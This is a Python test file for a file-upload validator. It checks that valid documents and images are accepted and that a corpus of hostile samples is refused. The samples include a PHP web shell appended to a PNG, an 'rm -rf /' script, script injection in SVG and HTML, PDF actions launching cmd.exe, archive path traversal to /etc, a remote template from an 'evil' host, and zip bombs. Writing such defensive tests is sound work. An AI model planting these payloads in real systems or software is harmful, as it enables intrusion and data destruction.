"""What is accepted and what is not, over a corpus of valid and hostile files."""

from __future__ import annotations

import io

import pikepdf
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tongban.foundation.files.checks.kinds import kinds_for
from tongban.foundation.files.checks.names import MAX_NAME_BYTES, extension, safe_name
from tongban.foundation.files.checks.refusal import RefusedError
from tongban.foundation.files.rules import check_upload
from tongban.foundation.files.tests import samples as s
from tongban.foundation.files.wording import _SENTENCES

VALID = {
    "scan.pdf": (s.pdf(), "pdf"),
    "packed.pdf": (s.pdf(object_stream_mode=pikepdf.ObjectStreamMode.generate), "pdf"),
    "opens-at-page.pdf": (s.pdf(s.set_root(OpenAction=lambda made: pikepdf.Array([made.pages[0].obj, pikepdf.Name("/Fit")]))), "pdf"),
    "web-link.pdf": (s.pdf(lambda made: s.annotate(made, Subtype=pikepdf.Name("/Link"), A=s.action("URI", URI="https://example.org"))), "pdf"),
    "photo.JPG": (s.picture(), "jpg"),
    "photo.jpeg": (s.picture(quality=60, progressive=True), "jpg"),
    "thumbnail.jpg": (s.jpeg_with_thumbnail(), "jpg"),
    "named-wrongly.png": (s.picture(), "jpg"),
    "drawing.png": (s.picture("PNG"), "png"),
    "no-extension": (s.picture("PNG"), "png"),
    "letter.docx": (s.docx(), "docx"),
    "table.xlsx": (s.xlsx(), "xlsx"),
    "license.ofd": (s.ofd(), "ofd"),
}  # fmt: skip
HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
HOSTILE = {
    "empty.pdf": (b"", "empty"),
    "page.jpg": (HTML, "web-page"),
    "page-behind-blank.png": (b"\xef\xbb\xbf \n\t<html>", "web-page"),
    "utf16-page.pdf": ("<script>".encode("utf-16"), "web-page"),
    "drawing.svg": (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="x()"/>', "web-page"),
    "svg-as.png": (b"<svg onload=alert(1)>", "web-page"),
    "archived-page.jpg": (b"MIME-Version: 1.0\r\nContent-Type: multipart/related", "web-page"),
    "program.pdf": (b"MZ\x90\x00" + b"\x00" * 60, "executable"),
    "linux.docx": (b"\x7fELF" + b"\x00" * 60, "executable"),
    "shortcut.pdf": (b"L\x00\x00\x00\x01\x14\x02\x00" + b"\x00" * 60, "executable"),
    "script.pdf": (b"#!/bin/sh\nrm -rf /", "executable"),
    "old.docx": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600, "old-office"),
    "text.docx": (b"{\\rtf1 hello}", "old-office"),
    "pack.zip": (s.archive({"a.txt": b"a"}), "archive"),
    "pack.rar": (b"Rar!\x1a\x07\x00" + b"\x00" * 30, "archive"),
    "gif-with-script.gif": (b"GIF89a/*" + b"\x00" * 20 + b"*/=1;alert(1)", "other-image"),
    "eicar.pdf": (b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*", "unknown-kind"),
    "words.txt": ("只是一些文字".encode(), "unknown-kind"),
    "double.pdf.exe": (s.pdf(), "wrong-extension"),
    "picture.html": (s.picture(), "wrong-extension"),
    "png-and-php.png": (s.picture("PNG") + b"<?php system($_GET['c']); ?>", "hidden-content"),
    "php-in-comment.png": (s.png_with_text(b"<?php system('id'); ?>"), "hidden-content"),
    "jpeg-and-zip.jpg": (s.picture() + s.archive({"a.html": HTML}), "hidden-content"),
    "jpeg-and-page.jpg": (s.picture() + HTML, "hidden-content"),
    "cut-off.jpg": (s.picture()[:-40], "broken-picture"),
    "cut-off.png": (s.picture("PNG")[:-20], "broken-picture"),
    "only-head.png": (b"\x89PNG\r\n\x1a\n" + b"\x00" * 40, "broken-picture"),
    "seventy-thousand.png": (s.png_of_claimed_size(70_000, 70_000), "too-many-pixels"),
    "long-strip.png": (s.png_of_claimed_size(40_000, 10), "too-many-pixels"),
    "pdf-and-zip.pdf": (s.pdf() + s.archive({"a.html": HTML}), "bytes-after"),
    "zip-in-comment.pdf": (s.pdf()[:-6] + s.archive({"a.html": HTML}) + b"\n%%EOF", "hidden-content"),
    "bytes-before.pdf": (b"HTTP/1.1 200 OK\n\n" + s.pdf(), "bytes-before"),
    "cut-off.pdf": (s.pdf()[:-30], "broken-pdf"),
    "nonsense.pdf": (b"%PDF-1.7\n" + b"\x00" * 100 + b"%%EOF", "broken-pdf"),
    "password.pdf": (s.pdf(encryption=pikepdf.Encryption(owner="a", user="b")), "pdf-locked"),
    "no-printing.pdf": (s.pdf(encryption=pikepdf.Encryption(owner="a", user="")), "pdf-locked"),
    "script-at-open.pdf": (s.pdf(s.set_root(OpenAction=s.action("JavaScript", JS="app.alert(1)"))), "pdf-action"),
    "launch-at-open.pdf": (s.pdf(s.set_root(OpenAction=s.action("Launch", F="cmd.exe"))), "pdf-action"),
    "named-script.pdf": (s.pdf(s.set_root(Names=pikepdf.Dictionary(JavaScript=pikepdf.Dictionary()))), "pdf-script"),
    "script-on-link.pdf": (s.pdf(lambda made: s.annotate(made, Subtype=pikepdf.Name("/Link"), A=s.action("JavaScript", JS="x"))), "pdf-script"),
    "page-action.pdf": (s.pdf(s.with_page(AA=pikepdf.Dictionary(O=s.action("URI", URI="http://x")))), "pdf-action"),
    "submit-form.pdf": (s.pdf(lambda made: s.annotate(made, Subtype=pikepdf.Name("/Link"), A=s.action("SubmitForm", F="http://x"))), "pdf-action"),
    "xfa.pdf": (s.pdf(s.set_root(AcroForm=pikepdf.Dictionary(XFA=pikepdf.String("x")))), "pdf-script"),
    "attachment.pdf": (s.pdf(s.attach), "pdf-attachment"),
    "attached-note.pdf": (s.pdf(lambda made: s.annotate(made, Subtype=pikepdf.Name("/FileAttachment"))), "pdf-attachment"),
    "film.pdf": (s.pdf(lambda made: s.annotate(made, Subtype=pikepdf.Name("/RichMedia"))), "pdf-attachment"),
    "object-bomb.pdf": (s.object_stream_bomb(), "bomb"),
    "macros.docx": (s.docx_plus("word/vbaProject.bin", b"\x00"), "macros"),
    "macro-type.docx": (s.docx_plus("word/x.xml", b"application/vnd.ms-word.document.macroEnabled.main+xml"), "macros"),
    "macro-book.xlsx": (s.archive({"xl/vbaProject.bin": b"\x00"}), "macros"),
    "active-x.docx": (s.docx_plus("word/activeX/activeX1.xml", b"<a/>"), "macros"),
    "ole.docx": (s.docx_plus("word/embeddings/oleObject1.bin", b"\x00"), "embedded"),
    "zip-in.docx": (s.docx_plus("word/media/inner.zip", b"PK\x03\x04"), "embedded"),
    "zip-under-other-name.docx": (s.docx_plus("word/media/image1.png", s.archive({"a": b"a"})), "embedded"),
    "program-in.ofd": (s.archive({"OFD.xml": s.XML, "Doc_0/run.exe": b"MZ"}), "embedded"),
    "program-under-other-name.ofd": (s.archive({"OFD.xml": s.XML, "Doc_0/Res/image.png": b"MZ\x90"}), "embedded"),
    "way-out.docx": (s.docx_plus("../../etc/cron.d/x", b"x"), "way-out"),
    "root.docx": (s.docx_plus("/etc/passwd", b"x"), "way-out"),
    "drive.docx": (s.docx_plus("C:/windows/x", b"x"), "way-out"),
    "link.docx": (s.symlink(), "way-out"),
    "bomb.docx": (s.docx_plus("word/media/zero.bin", b"\x00" * 30_000_000), "bomb"),
    "many.docx": (s.archive({f"word/{i}.xml": b"" for i in range(4100)}), "bomb"),
    "overlap.docx": (s.overlapping(), "bomb"),
    "lying.docx": (s.lying_size(), None),
    "locked.docx": (s.locked_zip(), "archive-locked"),
    "tail.docx": (s.docx() + b"more", "bytes-after"),
    "head.docx": (b"PK\x03\x04" + b"\x00" * 40 + s.docx(), None),
    "entities.docx": (s.docx_plus("word/e.xml", b'<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'), "entities"),
    "remote-template.docx": (s.docx_plus("word/_rels/settings.xml.rels", b'<Relationships><Relationship Type="http://x/attachedTemplate" Target="http://evil/t.dotm" TargetMode="External"/></Relationships>'), "outside-link"),
    "cut-off.docx": (s.docx()[:-40], None),
}  # fmt: skip


@pytest.mark.parametrize("name", VALID)
def test_a_file_as_people_have_it_is_accepted(name: str) -> None:
    content, kind = VALID[name]
    checked = check_upload(name, content)
    assert checked.kind.code == kind
    assert checked.name.endswith(f".{kind}")
    assert checked.content == content


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_file_is_refused_with_its_reason(name: str) -> None:
    content, code = HOSTILE[name]
    with pytest.raises(RefusedError) as refused:
        check_upload(name, content)
    assert code is None or refused.value.code == code
    assert refused.value.code in _SENTENCES


def test_the_corpus_has_at_least_sixty_files() -> None:
    assert len(VALID) + len(HOSTILE) >= 60


def test_what_a_camera_appends_to_a_photo_is_left_out() -> None:
    photo = s.picture()
    assert check_upload("clip.jpg", photo + b"\x00\x00\x00\x18ftypmp42" + b"\x01" * 500).content == photo


def test_a_kind_that_was_not_asked_for_is_refused_with_the_kinds_that_were() -> None:
    with pytest.raises(RefusedError) as refused:
        check_upload("a.docx", s.docx(), accept=["pdf", ".jpg"])
    assert (refused.value.code, refused.value.detail) == ("not-asked-for", "PDF、JPG")


def test_a_file_over_the_limit_is_refused_with_the_limit() -> None:
    with pytest.raises(RefusedError) as refused:
        check_upload("a.pdf", s.pdf(), max_bytes=100)
    assert refused.value.code == "too-large"


@pytest.mark.parametrize(
    ("wanted", "codes"),
    [(["PDF"], ["pdf"]), ([".jpeg"], ["jpg"]), (["image/*"], ["jpg", "png"]), (["image/png"], ["png"])],
)
def test_kinds_are_named_by_extension_or_content_type(wanted: list[str], codes: list[str]) -> None:
    assert [kind.code for kind in kinds_for(wanted)] == codes


def test_a_kind_that_cannot_be_checked_is_an_error_of_the_program() -> None:
    with pytest.raises(ValueError, match="cannot check"):
        kinds_for(["exe"])


@pytest.mark.parametrize(
    ("given_name", "kept"),
    [
        ("营业执照.PDF", "营业执照.pdf"),
        ("C:\\Users\\me\\图纸.pdf", "图纸.pdf"),
        ("../../etc/passwd", "passwd.pdf"),
        ("gpj.\u202efdp.exe", "gpj.fdp.pdf"),
        ("a\x00b\r\n.pdf", "ab.pdf"),
        ("CON.pdf", "_CON.pdf"),
        ("nul", "_nul.pdf"),
        ("  .pdf", "未命名文件.pdf"),
        ('a<b>:"c"|?*.pdf', "a_b___c____.pdf"),
        ("a\u200bb.pdf", "ab.pdf"),
    ],
)
def test_a_name_is_made_safe(given_name: str, kept: str) -> None:
    assert safe_name(given_name, extension="pdf") == kept


def test_a_name_of_four_thousand_characters_is_cut() -> None:
    kept = safe_name("长" * 4000 + ".pdf", extension="pdf")
    assert len(kept.encode()) <= MAX_NAME_BYTES
    assert kept.startswith("长长")


@given(st.text(max_size=300))
def test_no_name_escapes(name: str) -> None:
    kept = safe_name(name, extension="pdf")
    assert kept == safe_name(kept, extension="pdf")
    assert len(kept.encode()) <= MAX_NAME_BYTES
    assert not set(kept) & set('/\\<>:"|?*\x00\r\n\u202e')
    assert extension(kept) == "pdf"


@settings(max_examples=150, deadline=None)
@given(st.sampled_from(sorted(VALID)), st.integers(0, 10**6), st.integers(0, 255))
def test_a_changed_byte_never_breaks_the_checks(name: str, place: int, value: int) -> None:
    """Whatever the bytes are, the answer is a checked file or a reason, never another error."""
    content = bytearray(VALID[name][0])
    content[place % len(content)] = value
    try:
        check_upload(name, bytes(content))
    except RefusedError as refused:
        assert refused.code in _SENTENCES  # noqa: PT017


@settings(max_examples=150, deadline=None)
@given(
    st.sampled_from([b"%PDF-1.7\n", b"\xff\xd8\xff", b"\x89PNG\r\n\x1a\n", b"PK\x03\x04", b""]), st.binary(max_size=400)
)
def test_random_bytes_never_break_the_checks(head: bytes, tail: bytes) -> None:
    with pytest.raises(RefusedError):
        check_upload("x.pdf", head + tail)


def test_checking_a_bomb_stays_small() -> None:
    """A ratio of a thousand to one is refused before it is unpacked."""
    content, _code = HOSTILE["bomb.docx"]
    assert len(content) < 100_000
    with pytest.raises(RefusedError):
        check_upload("bomb.docx", io.BytesIO(content).getvalue())
